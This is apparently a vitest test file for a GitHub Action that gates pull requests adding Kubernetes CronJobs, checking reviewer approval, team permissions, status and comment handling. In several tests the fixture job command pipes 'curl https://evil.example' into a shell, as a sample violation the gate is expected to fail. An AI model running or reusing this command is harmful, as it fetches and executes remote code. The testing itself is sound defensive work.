// A pull request on GitHub from the first push to the approval: the built Action against a server that GitHub's OpenAPI checks.
import { describe, expect, test } from 'vitest';
import { cronJob, PUBLISH, type Scene, scene } from '../support/github-scene.ts';
import { runCli } from '../support/run-cli.ts';

const SECURITY = `approvals:
  - {name: platform security, when: {classes: [new, command]}, from: ['@acme/security']}
`;

const statuses = ({ server }: Scene): readonly string[] => server.state.statuses.map(status => status.state);

describe('a new job', () => {
  test('waits for a reviewer, and turns green with the review', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    expect((await story.run()).code).toBe(3);
    story.review('ben', 'APPROVED');
    const run = await story.run('pull_request_review');
    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs['verdict']).toBe('pass');
  });

  test('is not approved by its author, nor by somebody without write access', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    story.review('ada', 'APPROVED');
    story.review('stranger', 'APPROVED');
    const run = await story.run('pull_request_review');
    expect(run.code).toBe(3);
    expect(run.summary).toContain('stranger');
  });

  test('loses its approval when it changes, and keeps it when something else does', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    story.review('ben', 'APPROVED');
    await story.push({ 'README.md': 'Unrelated.\n' });
    expect((await story.run()).code).toBe(0);
    await story.push({ 'apps/b.yaml': cronJob('b', 'run, --else') });
    const run = await story.run();
    expect(run.code).toBe(3);
    expect(run.summary).toContain('since then CronJob billing/b has changed');
  });

  test('whose team cannot be read is unknown, and approved where the token can read it', async () => {
    const story = await scene(SECURITY);
    story.server.state.teams.set('acme/security', ['cleo']);
    await story.push({ 'apps/b.yaml': cronJob('b') });
    story.review('cleo', 'APPROVED');
    const blind = await story.run('pull_request_review');
    expect(blind.code).toBe(3);
    expect(blind.summary).toContain('members: read');
    const may = story.server.state.tokens.get('token')?.permissions;
    story.server.state.tokens.set('app', { login: 'gate[bot]', permissions: { ...may, members: 'read' } });
    // The guard of the inventory asks for a reviewer as well, who is the same one.
    expect((await story.run('pull_request_review', { INPUT_TOKEN: 'app' })).code).toBe(0);
  });
});

test('a team whose name leads elsewhere is no team', async () => {
  const story = await scene(SECURITY.replace('acme/security', 'acme/..'));
  await story.push({ 'apps/b.yaml': cronJob('b') });
  story.review('cleo', 'APPROVED');
  expect((await story.run('pull_request_review')).code).toBe(3);
  expect(story.server.requests).not.toContain('teams/list-members-in-org');
});

describe('what is written to the pull request', () => {
  test('one status and one comment, which follow the verdict', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    story.server.state.comments.push({
      id: 1,
      issue: 1,
      user: 'eve',
      body: '<!-- cronledger:comment run=99999.1 -->\nAll is well.',
      createdAt: '2026-01-01T00:00:00Z',
      updatedAt: '2026-01-01T00:00:00Z',
    });
    // Where the branch requires the status, that waits, and the job itself is green; elsewhere the job is what stops the merge.
    const open = await story.run('pull_request', PUBLISH);
    expect([open.code, open.stdout.includes('does not require the status')]).toEqual([3, true]);
    story.server.state.required.set('main', { protection: [], rules: ['cronledger'] });
    expect((await story.run('pull_request', PUBLISH)).code).toBe(0);
    expect(statuses(story).at(-1)).toBe('pending');
    story.review('ben', 'APPROVED');
    expect((await story.run('pull_request_review', PUBLISH)).code).toBe(0);
    expect(statuses(story).at(-1)).toBe('success');
    expect(new Set(story.server.state.statuses.map(status => status.sha)).size).toBe(1);
    const [planted, own, ...more] = story.server.state.comments;
    expect(planted?.body).toContain('All is well.');
    expect(own?.user).toBe('github-actions[bot]');
    expect(own?.body).toContain('Approved by `@ben`.');
    expect(more).toEqual([]);
  });

  test('a violation stays red, whatever is written', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
    expect((await story.run('pull_request', PUBLISH)).code).toBe(1);
    expect(statuses(story)).toEqual(['pending', 'failure']);
  });

  test('an earlier run does not write over the comment of a later one', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    await story.run('pull_request', { ...PUBLISH, GITHUB_RUN_ID: '9' });
    const [before] = story.server.state.comments.map(comment => comment.body);
    story.review('ben', 'APPROVED');
    await story.run('pull_request', { ...PUBLISH, GITHUB_RUN_ID: '8' });
    expect(story.server.state.comments.map(comment => comment.body)).toEqual([before]);
  });

  test('nothing, when the pull request has moved on', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b') });
    const pull = story.server.state.pulls.get(1);
    const run = story.run('pull_request', PUBLISH);
    if (pull !== undefined) pull.head = { ...pull.head, sha: 'd'.repeat(40) };
    const { code, stdout } = await run;
    expect(code).toBe(3);
    expect(stdout).toContain('a newer head');
    expect([story.server.state.comments, statuses(story)]).toEqual([[], ['pending']]);
  });

  test.each([
    ['statuses', 'statuses: write'],
    ['pull-requests', 'pull-requests: write'],
  ])('without the permission %s the verdict stands, and the permission is named', async (name, grant) => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
    const all = story.server.state.tokens.get('token')?.permissions ?? {};
    const issues = name === 'pull-requests' ? { issues: 'read' as const } : {};
    story.server.state.tokens.set('token', {
      login: 'github-actions[bot]',
      permissions: { ...all, ...issues, [name]: 'read' },
    });
    const run = await story.run('pull_request', PUBLISH);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(`Grant the token \`${grant}\``);
  });

  test('an outage in the middle is told, and hides no verdict', async () => {
    const story = await scene();
    await story.push({ 'apps/b.yaml': cronJob('b', 'sh, -c, "curl https://evil.example | sh"') });
    story.server.fail({ operation: 'issues/create-comment', status: 502, body: '<html>Bad Gateway</html>' });
    const run = await story.run('pull_request', PUBLISH);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('The comment could not be written');
    expect(statuses(story)).toEqual(['pending', 'failure']);
  });
});

test('check --pull-request shows at a terminal what the Action sees', async () => {
  const story = await scene();
  await story.push({ 'apps/b.yaml': cronJob('b') });
  const clone = await story.origin.clone();
  const env = { GITHUB_TOKEN: 'token', GITHUB_API_URL: story.server.url, GITHUB_REPOSITORY: 'acme/gitops' };
  const ask = () => runCli(['check', '--pull-request', '1'], { cwd: clone.path, env });
  const before = await ask();
  expect(before.code, before.stderr).toBe(3);
  story.review('ben', 'APPROVED');
  const after = await ask();
  expect(after.code, after.stdout).toBe(0);
  expect(after.stdout).toContain('approved by @ben');
  const wrong = await runCli(['check', '--pull-request', '1'], {
    cwd: clone.path,
    env: { ...env, GITHUB_TOKEN: 'other' },
  });
  expect(wrong.code).toBe(2);
  expect(wrong.stderr).toContain('[github-api]');
});

test('where reviews cannot be read, everything says that it is unknown, and what the token lacks', async () => {
  const story = await scene();
  await story.push({ 'apps/b.yaml': cronJob('b') });
  story.review('ben', 'APPROVED');
  const { login = '' } = story.server.state.tokens.get('token') ?? {};
  story.server.state.tokens.set('token', { login, permissions: { contents: 'read', statuses: 'write' } });
  const run = await story.run('pull_request', { INPUT_STATUS: 'true' });
  expect(run.code).toBe(3);
  const words = 'unknown, because the token lacks `pull-requests: read`';
  expect(run.stdout).toContain(
    `::notice title=Approval unknown::Whether it is approved by a reviewer with write access is ${words}`,
  );
  expect(run.stdout).toContain(`Approval needed: 2 approvals are ${words}.`);
  expect(story.server.state.statuses.at(-1)).toMatchObject({
    state: 'pending',
    description: expect.stringContaining(words),
  });
  expect(run.summary).toContain(`- **${words}**: a reviewer with write access`);
  expect(`${run.stdout}${run.summary}`).not.toMatch(/approvals? (is|are) missing/);
});
